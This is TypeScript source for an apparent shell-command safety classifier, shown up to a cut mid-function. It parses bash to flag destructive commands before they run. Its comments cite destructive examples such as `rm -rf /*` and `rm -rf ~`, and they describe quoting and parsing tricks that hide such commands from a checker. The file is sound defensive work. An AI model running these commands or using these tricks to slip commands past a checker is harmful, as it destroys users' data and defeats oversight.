import type { ActionContext, Inventory } from '../../core/index.ts';
import { ownScanConfig } from './own-scan-config.ts';
import { printsCompletionScript } from './completion-scripts.ts';
import { isUnpackedToolchain, regeneratedFolders, filesWrittenAgain, snapshotFoldersWrittenAgain, unpackedInto } from './regenerated.ts';
import { snapshotsMadeThenRemoved } from './made-snapshots.ts';
import { isCredentialFileName, printsItsInput, SECRET_COMMAND_MARK, SECRET_VARIABLE_MARK, secretPrinted, secretVariableExpanded } from './secret-sources.ts';
import { kubectlCreateFromFiles, secretOnPipe, sopsDecryptedFile } from './manifest-sources.ts';
import { FactsBuilder } from '../builder.ts';
import { isCredentialFile, resolvePath } from '../paths.ts';
import { ciRunnerVariables } from './ci-runner-variables.ts';
import { parseBash, type Node, type Tree } from './bash-parser.ts';
import { programOfAgent, renderedOutputOf, splitWords, storeWrite, writtenContent, type HandOff, type Invocation, type Redirect, type ShellEnv, type ShellScope, type DisposableListing, type NameListing, type Stdin } from './invocation.ts';
import { kubeListing, listingFilter } from './tools/infra.ts';
import { downloadedCodeRun } from './tools/wrappers.ts';
import { outputKeepingCommandStart } from './tools/command-start.ts';
import { COMMAND_VARIABLES, dispatchCommand, knownTool, lessVariableProblem, markExported, SHELL_BUILTINS, portDaemon, preloadsUnseenLibrary, SERVICE_ACCOUNT, SYSTEM_DAEMON } from './tools/dispatch.ts';
import { CACHE_FOLDER_MARK, decodeAnsiC, evalWord, holdsCacheFolder, literalWord, setCacheFolderQueryTest, setSubstitutionOutput, toWord, type Vars, type Word } from './words.ts';
import { fdAsFind } from './tools/filesystem.ts';
import { loaderPrintedSql } from './tools/geo-catalogue.ts';
import { isSerialDevice, serialDeviceWrite } from './tools/vehicle-shell.ts';
import { shellWalker } from '../windows/registry.ts';
import { SYSTEM_PROGRAM_FOLDERS, untrustedSearchFolder } from './search-path.ts';
import { isInterpreterVariable, isRoutingVariable, markRouting, toolRouting, unsetRouting } from './tool-routing.ts';
import { judgeWrittenConfig } from './written-config.ts';
import { zshAsBash } from './zsh.ts';
import { commandSockets, keepShellSockets, RUNS_ITS_INPUT, senderOf, shellHasSockets, withoutSockets } from './sockets.ts';
import { snapshotListing, snapshotListingFilter, snapshotListingHead, snapshotListingTail } from './snapshot-retention.ts';
import { previewListing } from './preview-listing.ts';
import { RUN_NUMBER_STANDIN } from '../stamped-names.ts';
import { SHORT_FIXED_LIST } from '../retention.ts';
import { disposableListing, mergedBranchesKept, namedListingFiltered, objectFolderListing, remoteMergedFiltered, runRangeFolder } from './disposable-listing.ts';
import { commOfListings, nameListing, nameListingFiltered } from './orphan-log-groups.ts';
import { dateStampedWord } from './date-stamps.ts';
import { restartedStops, waitOf, type ServiceStep } from '../restarts.ts';

/**
 * Walks a bash syntax tree and hands every simple command that would run (in lists, pipelines,
 * subshells, loops, conditionals, substitutions, called functions) to the tool analysers, tracking
 * the variables, aliases, functions and working directory the script sets up along the way.
 */

const MAX_DEPTH = 8;
const MAX_STEPS = 20000;

export function classifyShellSource(source: string, ctx: ActionContext, inventory: Inventory, b: FactsBuilder, unseenTools?: ReadonlySet<string>): void {
  const env: ShellEnv = { ctx, inventory, b, source, steps: 0, ...(unseenTools ? { unseenTools } : {}) };
  const vars = new Map<string, string | null>();
  if (ctx.home) vars.set('HOME', ctx.home);
  if (ctx.cwd) vars.set('PWD', ctx.cwd);
  if (ctx.cwd) vars.set(WORKSPACE_MARK, ctx.cwd);
  // A temporary directory by definition; what it holds is disposable.
  vars.set('TMPDIR', '/tmp');
  vars.set('SHELL', '/bin/bash');
  for (const [k, v] of ciRunnerVariables(ctx.cwd)) vars.set(k, v);
  const start = (v: Map<string, string | null>): ShellScope => ({ vars: v, aliases: new Map(), functions: new Map(), cwd: ctx.cwd, home: ctx.home, workspace: ctx.cwd, files: new Map(), depth: 0 });
  runSource(source, start(new Map(vars)), env, null, 0);
  // SECURITY: $TMPDIR is a temp folder only when it is set; most Linux systems leave it unset, and then `"$TMPDIR/"*` is
  // `/*` and `$TMPDIR/../etc` is `/../etc`. When the action reads it bare, read it unset too and keep what that reaches
  // if it is a critical path (`${TMPDIR:-/tmp}` has its own default and is not affected).
  if (/\$(\{TMPDIR\}|TMPDIR\b)/.test(source)) {
    readAgain(source, start(new Map([...vars, ['TMPDIR', '']])), env, 'tmpdir_unset', 'with TMPDIR unset (the default on most Linux systems)');
  }
  // SECURITY: `$(git rev-parse --show-toplevel)` is the workspace only when the workspace is a repository, which the
  // context does not say; outside one git prints nothing on its standard output (the error goes to standard error), and
  // `rm -rf "$(git rev-parse --show-toplevel)"/*` is `rm -rf /*`. Read it empty too and keep what that reaches if it is
  // a critical path.
  if (/--(show-toplevel|git-dir|absolute-git-dir|git-common-dir)\b/.test(source)) {
    readAgain(source, start(new Map([...vars, [OUTSIDE_REPOSITORY_MARK, '']])), env, 'toplevel_empty', 'outside a git repository, where `git rev-parse --show-toplevel` prints nothing');
  }
}

/**
 * Walks `source` again in `scope` (its variables read another way), and when that reading reaches a critical path,
 * records it on the action: the targets it reaches and a destructive finding `code` whose message starts with `why`.
 */
function readAgain(source: string, scope: ShellScope, env: ShellEnv, code: string, why: string): void {
  const alt = new FactsBuilder();
  runSource(source, scope, { ...env, b: alt, steps: 0 }, null, 0);
  const hit = alt.findings.find((f) => f.code === 'critical_path');
  if (alt.destructive && hit) {
    for (const t of alt.targets) if (t.kind === 'filesystem') env.b.target(t);
    env.b.destroy(code, `${why}: ${hit.message}`, hit.span);
  }
}

function runSource(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  if (scope.depth > MAX_DEPTH) {
    env.b.opaque('shell_nesting_too_deep', `shell nesting deeper than ${MAX_DEPTH} levels`);
    return;
  }
  const tree = parseAsBash(source);
  if (!tree) {
    env.b.opaque('shell_parser_unavailable', 'the shell parser could not parse this input');
    return;
  }
  try {
    const root = tree.rootNode;
    if (root.hasError && readWithLiteralDollars(source, scope, env, stdin, offset)) return;
    if (bashRejects(root, source) && readAsZsh(source, scope, env, stdin, offset)) return;
    if (root.hasError) {
      // SECURITY: a script bash might read differently from us is opaque; we still walk it for targets.
      const err = firstError(root);
      env.b.opaque('shell_syntax_error', 'the shell input does not parse cleanly', err ? { start: offset + err.startIndex, end: offset + err.endIndex } : undefined);
    }
    visit(root, scope, env, stdin, offset);
  } finally {
    tree.delete();
  }
}

/**
 * The parse of `source` as bash reads it. Two places tree-sitter-bash reads differently are rewritten, same length so
 * spans hold, and parsed again:
 * - the reserved word `time` (bash(1): `time [-p] pipeline`) is read as a command whose arguments are the rest of the
 *   line, so `time for …; do rm -rf /; done` became three commands named `time`, `do` and `done`, and `time a | b`
 *   hid `a` from `b`: the word (and its `-p`) is blanked, as it changes nothing that runs;
 * - a line starting with a backslashed name (`echo start⏎\rm -rf ~`) was joined to the line before as its arguments:
 *   the newline between them, which ends a command in bash, becomes a `;`;
 * - a command name quoted or backslashed (`'export' X=1`, `\test -f f`, `$'export'`, `e""xport`) runs the same
 *   builtin or program as the plain name (quoting only stops alias expansion and reserved words), but the grammar reads
 *   `export`, `test` and their kin into their own nodes only when plain: the name is written plain (not a reserved word,
 *   which quoting does change);
 * - the read-write redirection `[n]<>word` (bash(1), "Opening File Descriptors for Reading and Writing"), which the grammar
 *   does not know (`exec 3<>file` was a syntax error): read as `>>`, which also opens the file for writing, creating it
 *   and keeping what it holds, so the file is judged as a write the way an append is.
 * SECURITY: each hid destructive commands behind a harmless one (`\export PIP_CACHE_DIR=~/thesis; pip cache purge`).
 */
function parseAsBash(source: string): Tree | null {
  let text = source;
  for (let round = 0; round < 3; round++) {
    const tree = parseBash(text);
    // Most lines have neither the word nor a backslash after a newline: no second walk of their tree.
    if (!tree || !/\btime\b|\n\\|<>|(^|[;&|(\n]\s*)[\w.-]*(\\|'|"|\$')/.test(text)) return tree;
    const edits: Array<{ start: number; end: number; to: string }> = [];
    bashReadings(tree.rootNode, text, edits);
    if (edits.length === 0) return tree;
    tree.delete();
    for (const e of edits.sort((a, b) => b.start - a.start)) text = text.slice(0, e.start) + e.to.padEnd(e.end - e.start, ' ') + text.slice(e.end);
  }
  return parseBash(text);
}

function bashReadings(node: Node, text: string, edits: Array<{ start: number; end: number; to: string }>): void {
  // The grammar stops at `<>`: an error node holding its `>` (after the `<` of a redirect) or its `<` (before a `>`).
  if (node.type === 'ERROR' && ((node.text === '>' && text[node.startIndex - 1] === '<') || (node.text === '<' && text[node.endIndex] === '>'))) {
    const start = node.text === '>' ? node.startIndex - 1 : node.startIndex;
    edits.push({ start, end: start + 2, to: '>>' });
  }
  if (node.type === 'command') {
    const name = node.childForFieldName('name');
    if (name?.text === 'time') {
      const first = node.childrenForFieldName('argument')[0];
      const end = first?.text === '-p' ? first.endIndex : name.endIndex;
      if (!first || first.text === '-p' || !first.text.startsWith('-')) edits.push({ start: name.startIndex, end, to: '' });
    }
    const word = name ? unquotedName(name.text) : null;
    if (name && word !== null && !RESERVED_WORDS.has(word)) edits.push({ start: name.startIndex, end: name.endIndex, to: word });
    // The grammar lexes `⏎\rm` as one word that starts with the newline.
    for (const part of node.namedChildren) if (part && part.startIndex > 0 && text[part.startIndex] === '\n' && (part.type === 'word' || part.type === 'command_name')) edits.push({ start: part.startIndex, end: part.startIndex + 1, to: ';' });
  }
  for (const c of node.namedChildren) if (c) bashReadings(c, text, edits);
}

/**
 * The name a quoted command name runs, when its quoting only hides a plain name: `'export'`, `"test"`, `\cd`, `$'export'`
 * (ANSI-C quoting, with no escape inside), `e""xport`, `ex'port'` (bash(1), QUOTING: quote removal joins the parts into one
 * word). Null when the word is not quoted at all, or holds anything but name characters once unquoted.
 */
function unquotedName(text: string): string | null {
  // Each alternative starts with its own character, so the test is linear in the word's length.
  const parts = /^(?:[\w.-]|'[\w.-]*'|"[\w.-]*"|\$'[\w.-]*'|\\[\w.-])+$/.test(text) ? text.match(/[\w.-]+|'[\w.-]*'|"[\w.-]*"|\$'[\w.-]*'|\\[\w.-]/g)! : null;
  if (!parts || parts.every((p) => /^[\w.-]+$/.test(p))) return null;
  const word = parts.map((p) => p.replace(/^\$?'|'$|^"|"$|^\\/g, '')).join('');
  return /^[A-Za-z_][\w.-]*$/.test(word) ? word : null;
}

/** bash(1), RESERVED WORDS: recognised only unquoted, so a quoted one is a command of that name (and not found). */
const RESERVED_WORDS: ReadonlySet<string> = new Set(['if', 'then', 'else', 'elif', 'fi', 'case', 'esac', 'for', 'select', 'while', 'until', 'do', 'done', 'in', 'function', 'time', 'coproc']);

/**
 * Whether bash would refuse `text` parsed as `root`: a parse error, or a word followed by a parenthesis (`ls *(.)`), that
 * is a command (not `time` or `coproc`) with a subshell among its parts. Most lines have no parenthesis, so no subshell:
 * no walk at all (speed37: this walk was ~4 % of a one-command line); the others ask the parser for their subshells
 * instead of walking every node.
 */
function bashRejects(root: Node, text: string): boolean {
  if (root.hasError) return true;
  if (!text.includes('(')) return false;
  return root.descendantsOfType('subshell').some((sub) => {
    const command = sub?.parent;
    if (command?.type !== 'command') return false;
    const name = command.childForFieldName('name')?.text;
    return name !== 'time' && name !== 'coproc';
  });
}

/**
 * Input bash rejects, read as zsh's (the agent's shell may be zsh: macOS's default) when `zshAsBash` can rewrite its
 * zsh-only words into bash that parses cleanly; false when it cannot, and the input stays a syntax error (unknown).
 */
function readAsZsh(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): boolean {
  const rewritten = zshAsBash(source);
  if (rewritten === null) return false;
  const tree = parseBash(rewritten);
  if (!tree) return false;
  try {
    if (bashRejects(tree.rootNode, rewritten)) return false;
    // Spans of the rewritten text do not map onto the input's: findings point at the whole input.
    const before = env.b.findings.length;
    env.b.finding('zsh_syntax', 'zsh-only syntax (glob qualifiers, expansion flags, modifiers) read as the commands and paths it reaches', { start: offset, end: offset + source.length });
    visit(tree.rootNode, scope, env, stdin, offset);
    for (let i = before; i < env.b.findings.length; i++) {
      const f = env.b.findings[i]!;
      if (f.span) f.span = { start: offset, end: offset + source.length };
    }
    return true;
  } finally {
    tree.delete();
  }
}

/**
 * The lead's answer 403.6 (round 39): a `$` before a character that starts no expansion is a literal `$` in bash (bash(1),
 * EXPANSION: only a name, a digit, one of `@*#?-$!0`, `{`, `(`, `[` or a quote after `$` expands), as in a Go test
 * pattern (`go test -run=^TestA$/^TestB$`); tree-sitter-bash stops there with a syntax error. Each such `$` outside single
 * quotes is written `\$` (the same `$` to bash) and the input parsed again; when that parses cleanly it is walked instead,
 * its findings' spans mapped back onto the input (one character added per `$`). False when there is no such `$`, when
 * the input has a heredoc (a quoted heredoc's body keeps a backslash) or when the rewritten input still does not parse:
 * the input stays a syntax error (fail closed).
 */
function readWithLiteralDollars(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): boolean {
  if (!source.includes('$') || source.includes('<<')) return false;
  const added: number[] = [];
  let out = '';
  let quote: '' | '"' | '`' = '';
  for (let i = 0; i < source.length; i++) {
    const ch = source[i]!;
    if (ch === '\\') {
      out += source.slice(i, i + 2);
      i++;
      continue;
    }
    if (quote === '' && (ch === "'" || (ch === '$' && source[i + 1] === "'"))) {
      // A single-quoted or ANSI-C quoted string is copied as it is: nothing in it expands.
      const from = ch === '$' ? i + 2 : i + 1;
      let end = from;
      while (end < source.length && source[end] !== "'") end += ch === '$' && source[end] === '\\' ? 2 : 1;
      out += source.slice(i, end + 1);
      i = end;
      continue;
    }
    if (quote === '' && ch === '#' && (i === 0 || /[\s;&|(]/.test(source[i - 1]!))) {
      // A comment runs to the end of its line.
      const end = source.indexOf('\n', i);
      out += end < 0 ? source.slice(i) : source.slice(i, end);
      i = end < 0 ? source.length : end - 1;
      continue;
    }
    if (ch === '"' || ch === '`') quote = quote === ch ? '' : quote === '' ? ch : quote;
    if (ch === '$' && i + 1 < source.length && !/[\w@*#?$!{(["'-]/.test(source[i + 1]!)) {
      added.push(out.length);
      out += '\\';
    }
    out += ch;
  }
  if (added.length === 0) return false;
  const tree = parseBash(out);
  if (!tree) return false;
  try {
    if (bashRejects(tree.rootNode, out)) return false;
    const back = (at: number) => {
      const local = at - offset;
      return offset + local - added.filter((a) => a < local).length;
    };
    const before = env.b.findings.length;
    visit(tree.rootNode, scope, env, stdin, offset);
    for (let i = before; i < env.b.findings.length; i++) {
      const f = env.b.findings[i]!;
      if (f.span && f.span.start >= offset && f.span.end <= offset + out.length) f.span = { start: back(f.span.start), end: back(f.span.end) };
    }
    return true;
  } finally {
    tree.delete();
  }
}

function firstError(node: Node): Node | null {
  if (node.type === 'ERROR' || node.isMissing) return node;
  for (const c of node.children) {
    if (c && (c.hasError || c.isMissing)) {
      const e = firstError(c);
      if (e) return e;
    }
  }
  return null;
}

function childScope(scope: ShellScope): ShellScope {
  return { ...scope, vars: new Map(scope.vars), aliases: new Map(scope.aliases), functions: new Map(scope.functions) };
}

function visitChildren(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  for (const c of node.namedChildren) {
    if (!c) continue;
    // `mv .env .env.bak & printf … > .env`: a command sent to the background races what follows it.
    if (c.nextSibling?.type === '&') keepingAbsent(scope, () => visit(c, scope, env, stdin, offset));
    else visit(c, scope, env, stdin, offset);
  }
}

/**
 * Statements whose commands may not run (a branch, a loop run zero times, a case not taken). A path a command in them
 * empties (`mv .env .env.bak`, filesystem.ts) is not surely absent after them.
 */
const MAY_NOT_RUN = new Set(['if_statement', 'while_statement', 'for_statement', 'c_style_for_statement', 'case_statement']);

/** Runs `walk`, then puts back the paths the scope knew to be absent before it (what it emptied may still be there). */
function keepingAbsent(scope: ShellScope, walk: () => void): void {
  const before = scope.absent;
  try {
    walk();
  } finally {
    scope.absent = before;
  }
}

function visit(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  if (++env.steps > MAX_STEPS) {
    if (env.steps === MAX_STEPS + 1) env.b.opaque('shell_too_large', 'the shell input is too large to analyse fully');
    return;
  }
  if (MAY_NOT_RUN.has(node.type)) return keepingAbsent(scope, () => visitNode(node, scope, env, stdin, offset));
  visitNode(node, scope, env, stdin, offset);
}

function visitNode(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  switch (node.type) {
    case 'comment':
    case 'heredoc_body':
    case 'heredoc_start':
    case 'heredoc_end':
      return;
    case 'command': {
      if (env.restarted?.get(node.tree)?.has(node.startIndex)) {
        env.b.finding('service_restarted', `\`${node.text}\` is started again later in the same line: a restart, judged as its start`, { start: offset + node.startIndex, end: offset + node.endIndex });
        return;
      }
      const handOff = env.handOff;
      if (handOff && handOff.tree === node.tree && handOff.at === node.startIndex) {
        env.handOff = undefined;
        handOff.taken = true;
        recordWrites(node, handOff.redirects, scope, env, handOff.doc);
        return visitCommand(node, scope, env, stdin, offset, handOff.redirects, true, handOff.trailing as Node[]);
      }
      return visitCommand(node, scope, env, stdin, offset, []);
    }
    case 'redirected_statement':
      return visitRedirected(node, scope, env, stdin, offset);
    case 'pipeline':
      return visitPipeline(node, scope, env, stdin, offset);
    case 'list': {
      markRestarts(node, scope, env);
      const outside = scope.buildOutput;
      const sweepsOutside = scope.generatedSweeps;
      const reinstalledOutside = scope.reinstalled;
      const gitSavedOutside = scope.gitSaved;
      const guardedOutside = scope.guardedCwd;
      const madeOutside = scope.madeSnapshots;
      markRegenerated(node, scope);
      markGitSaved(node, scope);
      markMergedChecked(node, scope);
      markGuardedCd(node, scope);
      try {
        const absent = existenceGuard(node, scope);
        const unheld = absent === null ? fuserGuard(node, scope) : null;
        if (unheld !== null) {
          visit(node.namedChildren[0]!, scope, env, stdin, offset);
          visit(node.namedChildren[1]!, { ...scope, unheld: new Set([...(scope.unheld ?? []), ...unheld]) }, env, stdin, offset);
          return;
        }
        if (absent === null && node.children.some((c) => c?.type === '||')) {
          // `true || mv .env .env.bak; …`, `false && mv … || …`: the right of `||` runs when the left failed, perhaps
          // before its rename, and the left may not have run at all: neither empties a path for what follows. Unless the
          // right ends the script (`mv .env .env.bak || exit 1`): what follows runs only when the whole left succeeded.
          const [left, right] = node.namedChildren;
          if (right?.type === 'command' && /^(exit|return)$/.test(right.childForFieldName('name')?.text ?? '')) return visitChildren(node, scope, env, stdin, offset);
          return keepingAbsent(scope, () => {
            if (left) keepingAbsent(scope, () => visit(left, scope, env, stdin, offset));
            if (right) visit(right, scope, env, stdin, offset);
          });
        }
        if (absent === null) return visitChildren(node, scope, env, stdin, offset);
        visit(node.namedChildren[0]!, scope, env, stdin, offset);
        visit(node.namedChildren[1]!, guardedAbsent(scope, absent), env, stdin, offset);
        return;
      } finally {
        // What the list's build writes again is its output for this list only, not for the commands after it.
        scope.buildOutput = outside;
        scope.generatedSweeps = sweepsOutside;
        scope.reinstalled = reinstalledOutside;
        scope.gitSaved = gitSavedOutside;
        scope.madeSnapshots = madeOutside;
        // `cd DIR || exit 1`: what follows runs in DIR or not at all, as after `cd DIR &&` (the lead's answer 248).
        scope.guardedCwd = cdOrExit(node, scope) ?? guardedOutside;
      }
    }
    case 'subshell':
      markRestarts(node, scope, env);
      return visitChildren(node, childScope(scope), env, stdin, offset);
    case 'variable_assignment': {
      assign(node, scope, env, offset);
      // The lead's answer 63: the session may export the variable already, and bash then hands the new value on
      const name = node.childForFieldName('name')?.text ?? '';
      markExported(scope.vars, name, true);
      lessVariableSet(name, scope, env, { start: offset + node.startIndex, end: offset + node.endIndex });
      return;
    }
    case 'declaration_command': {
      // `export`, `declare -x`, `typeset -gx`: the tools run after it get the variables it names
      const exports = /^export\b/.test(node.text) || node.namedChildren.some((c) => c?.type === 'word' && /^-[a-z]*x[a-z]*$/.test(c.text));
      for (const c of node.namedChildren) {
        if (c?.type === 'variable_name' && exports) markExported(scope.vars, c.text, true);
        if (c?.type === 'variable_assignment') {
          assign(c, scope, env, offset);
          if (exports) markExported(scope.vars, c.childForFieldName('name')?.text ?? '', true);
          // `export PAGER='…'`: programs run later run its value (judged when set).
          const name = c.childForFieldName('name')?.text ?? '';
          lessVariableSet(name, scope, env, { start: offset + node.startIndex, end: offset + node.endIndex });
          if (preloadsUnseenLibrary(name, scope.vars.get(name))) {
            env.b.opaque('preload_library', `\`${name}\` loads a library whose code is not in the input into the programs run after it`, { start: offset + node.startIndex, end: offset + node.endIndex });
          }
          if (COMMAND_VARIABLES.test(name) && scope.depth <= MAX_DEPTH) {
            const v = scope.vars.get(name);
            const span = { start: offset + node.startIndex, end: offset + node.endIndex };
            if (v === null || v === undefined) env.b.opaque('command_variable_dynamic', `\`${name}\` names a command that is not fixed in the input`, span);
            else if (v.trim() !== '') {
              env.b.finding('shell_nested', `\`${name}\` is run as a command: analysed as shell`, span);
              runNested(v.replace(/^\s*\|+/, ''), { ...childScope(scope), depth: scope.depth + 1 }, env, null, span.start);
            }
          }
        }
        else if (c) visitSubstitutions(c, scope, env, offset);
      }
      // D8 round 16: `export -n NAME`, `declare +x NAME` (`typeset +x`): the variable stays, the tools after it no longer get it
      if (node.namedChildren.some((c) => c?.type === 'word' && (/^export\b/.test(node.text) ? /^-[a-z]*n[a-z]*$/ : /^\+[a-z]*x[a-z]*$/).test(c.text))) {
        for (const c of node.namedChildren) {
          const name = c?.type === 'variable_name' ? c.text : c?.type === 'variable_assignment' ? c.childForFieldName('name')?.text : undefined;
          if (name !== undefined) unsetRouting(scope.vars, name, true);
          if (name !== undefined) markExported(scope.vars, name, false);
        }
      }
      return;
    }
    case 'unset_command':
      for (const c of node.namedChildren) if (c) scope.vars.delete(c.text);
      if (!node.namedChildren.some((c) => c?.text === '-f')) for (const c of node.namedChildren) if (c) markExported(scope.vars, c.text, false);
      // D8 round 16: `unset KUBECONFIG` (`-v`; `-f` unsets functions): the tools after it read their defaults
      if (!node.namedChildren.some((c) => c?.text === '-f')) for (const c of node.namedChildren) if (c) unsetRouting(scope.vars, c.text, false);
      // bash searches a default path ending in `.` when PATH is unset
      if (node.namedChildren.some((c) => c?.text === 'PATH')) scope.searchPath = '';
      return;
    case 'function_definition': {
      const name = node.childForFieldName('name')?.text;
      const body = node.childForFieldName('body');
      if (name && body) {
        scope.functions.set(name, body);
        // Substitutions are worked out from variables alone: the mark tells them this name now runs the function.
        scope.vars.set(`${FUNCTION_MARK}${name}`, null);
      }
      return;
    }
    case 'for_statement':
      return visitFor(node, scope, env, stdin, offset);
    case 'while_statement':
      if (visitKeyLoop(node, scope, env, stdin, offset)) return;
      return visitChildren(node, scope, env, stdin, offset);
    case 'file_redirect': {
      // A redirect with no command (`> file`): bash truncates the file.
      const dest = node.childForFieldName('destination');
      const op = node.children.find((c) => c && !c.isNamed && /[<>]/.test(c.type))?.type ?? '>';
      if (dest) dispatchRedirectOnly({ op, target: toWord(dest, scope.vars, offset), span: { start: offset + node.startIndex, end: offset + node.endIndex }, ...descriptorOf(node) }, scope, env);
      return;
    }
    case 'ERROR':
      // Already reported; commands inside still tell reviewers what was intended.
      return visitChildren(node, scope, env, stdin, offset);
    default:
      if (isWordLike(node.type)) return visitSubstitutions(node, scope, env, offset);
      if (SEQUENCES.has(node.type)) markRestarts(node, scope, env);
      return visitChildren(node, scope, env, stdin, offset);
  }
}

/**
 * A stop and a later start of the same thing in one sequence are a restart (docs/classifier-evaluation.md,
 * "Availability": restarts are writes, the service comes back by itself) when the start is reached whatever the work
 * between does: the lead's answers 323 and 337.5 (round 32), one rule for bash, PowerShell and cmd (restarts.ts
 * restartedStops). `systemctl stop nginx && systemctl start nginx`, `systemctl stop nginx; certbot renew; systemctl
 * start nginx` and `docker stop web` then `docker start web` on the next line pair; `stop && work && start` does not (if
 * the work fails the thing stays stopped), nor across `exit`, `exec`, `set -e` and a failing step, or a wait longer than
 * a minute. A stop sent to the background (`stop & start`) races its start. Both commands must be fixed words; the stop
 * is then judged as its start (the start is judged as itself).
 */
// The bodies of `if`, `elif`, `else` and `case` items are statements of their own node (tree-sitter-bash): sequences too.
const SEQUENCES = new Set(['program', 'compound_statement', 'subshell', 'do_group', 'if_statement', 'elif_clause', 'else_clause', 'case_item']);
const STARTED_BY: ReadonlyMap<string, string> = new Map([['stop', 'start'], ['shutdown', 'start'], ['stop_app', 'start_app'], ['down', 'up'], ['pause', 'unpause'], ['suspend', 'resume'], ['ifdown', 'ifup'], ['unload', 'load'], ['db.fsyncLock()', 'db.fsyncUnlock()']]);
/**
 * The stops whose start brings back what they stopped, and nothing else lost (each tool's reference): the verb where
 * the tool reads it and no option after it. Not `docker compose down -v`/`--rmi` (volumes, images deleted), not
 * `systemctl suspend` (the machine; systemctl has no `resume`), not a migration tool's `down` (drops tables).
 */
const RESTARTABLE_STOPS: readonly RegExp[] = [
  /^(systemctl|pm2|supervisorctl|rc-service) stop( [^-\s]\S*)+$/,
  // pm2's stop has no option that loses anything (`--only worker`, `--watch`, `--env`): the start repeats them word for word.
  /^pm2 stop( \S+)+$/,
  /^(service|rc-service) \S+ stop$/,
  /^(docker|podman)( container)? (stop|pause)( [^-\s]\S*)+$/,
  /^(docker compose|docker-compose|podman compose|podman-compose) (stop|pause|down)( [^-\s]\S*)*$/,
  /^ip link set( dev)? \S+ down$/,
  /^nmcli (connection|con|c|device|dev|d) down( [^-\s]\S*)+$/,
  /^ifdown( [^-\s]\S*)+$/,
  /^launchctl unload( -w)?( [^-\s]\S*)+$/,
  /^virsh suspend \S+$/,
  // A guest or container shut down, or stopped, and started again by name or id (virsh(1), qm(1), pct(1), lxc and incus,
  // `fly machine`): it comes back with its disks, as a cloud VM's reset does (a write, Availability). Not `--force` or any
  // other option, not `virsh destroy` (a pulled plug, named for destroying).
  /^virsh shutdown [^-\s]\S*$/,
  /^(qm|pct) (stop|shutdown) \d+$/,
  /^(lxc|incus) stop( [^-\s]\S*)+$/,
  /^(fly|flyctl) (machine|machines|m) stop( [^-\s]\S*)+$/,
  // Nomad (`nomad job stop -h`): a job stopped without `-purge` keeps its definition and history; `nomad job start NAME` or
  // a `nomad job run` of its job file (nomadJobForm) registers it again.
  /^nomad job stop [^-\s]\S*$/,
  // RabbitMQ's `rabbitmqctl stop_app` stops the broker application and keeps the node (rabbitmqctl(8)): `start_app` brings
  // it back as it was (the lead's answer 337.5). Not `stop` (the node itself), nor `reset` between them.
  /^rabbitmqctl( -n \S+)? stop_app$/,
  // PostgreSQL's own control (pg_ctl(1), pg_ctlcluster(1)) after pgCtlTiming: a smart or fast stop of one data folder or
  // cluster is what `pg_ctl restart` does; an immediate stop (crash recovery at the start) or server options (`-o`) are not.
  /^pg_ctl( -D \S+)? stop( -D \S+)?$/,
  /^pg_ctlcluster \S+ \S+ stop$/,
  // MongoDB's `db.fsyncLock()` (every write blocked until `db.fsyncUnlock()`, the lead's answer 256) from the same shell.
  /^(mongosh|mongo)( \S+)* --eval db\.fsyncLock\(\)$/,
  // Round 37 (u37): any program's plain stop or pause (up to two subcommand words before it, at most one operand
  // after it, no option), started again by the same words (`ros2 daemon stop && ros2 daemon start`): the shape of a
  // restart in every CLI, for the programs no line above knows.
  /^(?!systemctl )[\w.-]+( [a-z][\w-]*){0,2} (stop|pause)( [^-\s]\S*)?$/,
];
/**
 * A copy that only reads what a lock holds still (the lead's answer 256, round 28: `fsyncLock()`, a backup copy,
 * `fsyncUnlock()` in one line is answer 138's shape): rsync without its deleting options, `cp -a`/`-R`, `tar -c`, an LVM
 * snapshot, a cloud disk snapshot, `mongodump` (answer 309: it only reads). The copy is judged as itself.
 */
const BACKUP_COPY = /^(mongodump( \S+)*|rsync( (?!--(del|remove-source-files)\S*)\S+)+|cp -[a-zA-Z]*[aR][a-zA-Z]*( \S+)+|tar (-?[a-zA-Z]*c[a-zA-Z]*|--create)( (?!--remove-files)\S+)+|lvcreate( \S+)* (-s|--snapshot)( \S+)*|aws ec2 create-snapshots?( \S+)+|gcloud compute disks snapshot( \S+)+)$/;
/**
 * pg_ctl's and pg_ctlcluster's options that only say how long to wait, where the server logs and how a stop waits for
 * sessions (smart or fast): dropped before a stop and its start are compared, as `pg_ctl restart` takes them all (round 28).
 */
function pgCtlTiming(argv: string[]): string[] {
  const tool = argv[0]?.replace(/^.*\//, '');
  if (tool !== 'pg_ctl' && tool !== 'pg_ctlcluster') return argv;
  const out = [tool];
  for (let i = 1; i < argv.length; i++) {
    const w = argv[i]!;
    if (/^(-w|-W|-s|--wait|--no-wait|--silent|--timeout=\d+|--log=\S+|--mode=(smart|fast|s|f))$/.test(w)) continue;
    if ((w === '-t' && /^\d+$/.test(argv[i + 1] ?? '')) || w === '-l' || (w === '-m' && /^(smart|fast|s|f)$/.test(argv[i + 1] ?? ''))) {
      i++;
      continue;
    }
    out.push(w);
  }
  return out;
}
/**
 * The command's words when every one is fixed; with `stamps`, a word whose only expansion is a date stamp counts as fixed
 * (`mongodump --out /backup/mongo-$(date +%F)`, the stamp read as `STAMP`): for a step whose destination's name does not
 * change what it is (a backup copy between a lock and its unlock).
 */
function fixedArgv(node: Node, scope: ShellScope, stamps = false): string[] | null {
  if (node.type !== 'command') return null;
  const words = [node.childForFieldName('name'), ...node.childrenForFieldName('argument')];
  // SECURITY: an assignment (`LD_PRELOAD=…`, `PATH=…`) or a redirect on the command is more than the words.
  if (node.namedChildren.length !== words.length) return null;
  const out: string[] = [];
  for (const w of words) {
    const v = w ? evalWord(w, scope.vars).value : null;
    const stamped = v === null && stamps && w ? dateStampedWord(w.text, 'STAMP') : null;
    if (stamped !== null) out.push(stamped);
    else if (v === null) return null;
    else out.push(v);
  }
  let i = 0;
  // sudo's options that take a value (`-u postgres`, `-g`, `-C`, `-D`, `-h`, `-p`, `-r`, `-t`, `-T`, `-U`): the value is not the command.
  if (out[0] === 'sudo') for (i = 1; i < out.length && out[i]!.startsWith('-'); i++) if (/^-[ugCDhprtTU]$/.test(out[i]!)) i++;
